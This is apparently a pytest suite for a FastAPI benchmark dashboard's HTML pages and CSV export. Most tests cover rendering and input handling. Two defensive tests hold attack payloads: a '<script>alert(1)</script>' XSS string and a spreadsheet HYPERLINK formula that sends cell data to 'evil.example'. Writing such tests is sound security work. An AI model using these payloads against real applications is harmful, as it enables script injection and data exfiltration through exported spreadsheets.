"""The dashboard's pages over HTTP: empty states, data, URL state, CSV, escaping, bad links."""

import csv
import io
import json
import re

import pytest
from fastapi.testclient import TestClient

from app.core.db import Database
from tests.anomalies.test_service import BAD, dynamic_bert_slower, post_history
from tests.conftest import sign_in
from tests.factories import result, run_payload

PAGES = ("/", "/series", "/compare", "/alerts")


def figures(html: str) -> dict[str, dict[str, object]]:
    """The Plotly figures a page embeds, by element id."""
    found = re.findall(r'<script type="application/json" id="([^"]+)">(.*?)</script>', html, re.S)
    return {name: json.loads(text) for name, text in found}


@pytest.mark.parametrize("path", PAGES)
def test_an_empty_database_says_what_to_do_next(client: TestClient, path: str) -> None:
    page = client.get(path)
    assert page.status_code == 200
    assert "benchwatch demo" in page.text


@pytest.fixture
def history(client: TestClient, ingest_headers: dict[str, str]) -> list[int]:
    return post_history(client, ingest_headers, dynamic_bert_slower)


def test_overview_tables_compare_the_latest_run_with_a_base(
    client: TestClient, history: list[int]
) -> None:
    page = client.get("/", params={"machine": "h100-8", "channel": "nightly"})
    assert page.status_code == 200
    for title in ("Pass rate", "Geomean speedup vs eager", "Mean compile time"):
        assert title in page.text
    assert f'href="/runs/{history[-1]}"' in page.text  # the latest run
    assert "Open alerts" in page.text  # the injected regression's group
    chosen = client.get("/", params={"machine": "h100-8", "base": str(history[3])})
    assert f'<option value="{history[3]}" selected>' in chosen.text


def test_the_series_chart_follows_the_url(client: TestClient, history: list[int]) -> None:
    params = {"model": "bert", "metric": "latency", "precision": "bf16", "by": "config"}
    page = client.get("/series", params=params)
    figure = figures(page.text)["series-figure"]
    lines = {t["name"]: t for t in figure["data"] if t.get("mode") == "lines+markers"}
    assert set(lines) == {"eager", "default", "dynamic"}
    assert len(lines["dynamic"]["y"]) == len(history)  # the range ends at the newest point
    steps = [t for t in figure["data"] if t.get("name", "").endswith(": steps")]
    assert len(steps) == 1  # the regression marker on the dynamic line
    assert "regression" in steps[0]["hovertext"][0]
    assert "Steps found in these series" in page.text
    one_line = client.get("/series", params={**params, "by": "precision", "config": "default"})
    traces = figures(one_line.text)["series-figure"]["data"]
    assert {t["name"] for t in traces if t.get("mode") == "lines+markers"} == {"bf16"}


def test_alerts_show_the_group_its_explanation_and_triage_actions(
    client: TestClient, database: Database, history: list[int]
) -> None:
    page = client.get("/alerts")
    assert "Alert group 1" in page.text
    assert "2.6.0.dev20260113" in page.text  # the environment diff
    assert "only the dynamic-shapes config moved" in page.text
    assert "step-1" in figures(page.text)  # the step's chart
    # A reader who cannot triage gets a sign-in prompt, not controls that would refuse.
    assert "data-endpoint" not in page.text
    assert "with a <code>triage</code> token to triage" in page.text
    sign_in(client, database, "read")
    page = client.get("/alerts")
    assert "data-endpoint" not in page.text
    assert "Your token lacks the <code>triage</code> scope" in page.text
    sign_in(client, database, "triage")
    page = client.get("/alerts")
    assert 'data-endpoint="/api/v1/alert-groups/1"' in page.text
    assert 'data-endpoint="/api/v1/regressions/1"' in page.text
    assert "to triage" not in page.text
    assert "No alert groups match" in client.get("/alerts", params={"status": "fixed"}).text


def test_compare_kinds_and_csv(client: TestClient, history: list[int]) -> None:
    configs = client.get("/compare", params={"base_config": "default", "new_config": "dynamic"})
    assert "geomean latency ratio" in configs.text
    assert "scatter-figure" in figures(configs.text)
    runs = client.get(
        "/compare",
        params={"kind": "runs", "base_run": str(history[BAD - 1]), "new_run": str(history[BAD])},
    )
    assert "Last known good" in runs.text
    download = client.get(
        "/compare", params={"kind": "runs", "base_run": str(history[0]), "format": "csv"}
    )
    assert download.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(download.text)))
    bert = next(r for r in table if r["model"] == "bert" and r["config"] == "dynamic")
    assert float(bert[f"change run {history[-1]}"]) == pytest.approx(0.10, abs=0.02)


def test_a_bad_link_gets_a_friendly_page(client: TestClient, history: list[int]) -> None:
    for path in ("/runs/999999", "/alerts?group=999999", "/compare?kind=runs&base_run=999999"):
        page = client.get(path)
        assert page.status_code == 404
        assert "Nothing here" in page.text
    assert client.get("/?base=not-a-number").status_code == 200  # ignored, not a crash


def test_names_from_uploads_are_shown_as_text(
    client: TestClient, ingest_headers: dict[str, str]
) -> None:
    evil = "<script>alert(1)</script>"
    rows = [
        result(model=evil, value=1.0),
        result(model=evil, metric="accuracy", value=None, text_value="pass"),
    ]
    posted = client.post("/api/v1/runs", json=run_payload("evil", rows), headers=ingest_headers)
    assert posted.status_code == 201
    for path in (
        f"/runs/{posted.json()['id']}",
        f"/series?model={evil}&precision=bf16&config=cudagraphs",
    ):
        page = client.get(path)
        assert evil not in page.text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text


def test_plotly_js_is_served_by_the_app(client: TestClient) -> None:
    bundle = client.get("/static/plotly.min.js")
    assert bundle.status_code == 200
    assert bundle.headers["content-encoding"] == "gzip"
    assert "plotly" in bundle.text[:2000].lower()


ODD_PARAMS = {"shape": [1, 3, 224, 224], "nested": {"a": [1, {"b": None}]}, "flag": True}
ODD_KERNELS = [
    {"top_kernels": "not a list"},
    {"top_kernels": [1, "x", None, {"name": "k", "self_time_us": "fast", "calls": [1]}]},
    {"top_kernels": [{"name": ["odd"], "self_time_us": 1e300, "calls": 2}]},
    {"nothing": {"we": ["know"]}},
]


def test_every_page_renders_whatever_ingestion_accepts(
    client: TestClient, ingest_headers: dict[str, str]
) -> None:
    """List-valued params and any JSON in extra are stored, so every page must show them."""
    ids = []
    for index in range(2):
        rows = [result(model="odd", value=1.0 + index, params=ODD_PARAMS, extra={"x": [None]})]
        rows += [
            result(model=f"odd{n}", metric="kernel_count", value=3.0, extra=extra)
            for n, extra in enumerate(ODD_KERNELS)
        ]
        payload = run_payload(f"odd-{index}", rows, index=index, extra={"ci": [{"odd": True}]})
        posted = client.post("/api/v1/runs", json=payload, headers=ingest_headers)
        assert posted.status_code == 201, posted.text
        ids.append(posted.json()["id"])
    run_page = client.get(f"/runs/{ids[1]}")
    assert run_page.status_code == 200
    assert "224" in run_page.text  # the params are shown
    for path in (
        "/",
        "/alerts",
        "/series?model=odd&precision=bf16&config=cudagraphs",
        f"/compare?kind=runs&base_run={ids[0]}&new_run={ids[1]}",
        f"/compare?kind=runs&base_run={ids[0]}&new_run={ids[1]}&format=csv",
    ):
        assert client.get(path).status_code == 200, path


def test_the_csv_export_neutralises_formula_cells(
    client: TestClient, ingest_headers: dict[str, str]
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ids = []
    for index in range(2):
        rows = [result(model=evil, value=1.0), result(model="-2+3", value=2.0 + index)]
        posted = client.post(
            "/api/v1/runs",
            json=run_payload(f"csv-{index}", rows, index=index),
            headers=ingest_headers,
        )
        ids.append(posted.json()["id"])
    download = client.get(
        "/compare", params={"kind": "runs", "base_run": str(ids[0]), "format": "csv"}
    )
    table = list(csv.DictReader(io.StringIO(download.text)))
    assert sorted(r["model"] for r in table) == ["'-2+3", "'" + evil]
    minus = next(r for r in table if r["model"] == "'-2+3")
    assert float(minus[f"change run {ids[1]}"]) == pytest.approx(0.5)  # numbers stay numbers


@pytest.mark.parametrize(
    "path",
    [
        "/series?machine=a%00b",
        "/alerts?machine=a%00b",
        "/compare?machine=a%00b",
        "/compare?channels=nightly%00",
    ],
)
@pytest.mark.both_dialects
def test_a_nul_in_a_page_query_is_a_4xx(client: TestClient, path: str) -> None:
    page = client.get(path)
    assert page.status_code == 422
    assert "This view cannot be shown" in page.text  # the pages' one error page


def test_impossible_ids_and_too_many_channels_get_a_page(
    client: TestClient, history: list[int]
) -> None:
    huge = client.get("/alerts?group=99999999999999999999")
    assert huge.status_code == 200  # an id no row has is ignored, like a malformed one
    many = ",".join(f"c{n}" for n in range(9))
    page = client.get(f"/compare?kind=channels&channels={many}")
    assert page.status_code == 422
    assert "This view cannot be shown" in page.text
    assert "at most 8" in page.text
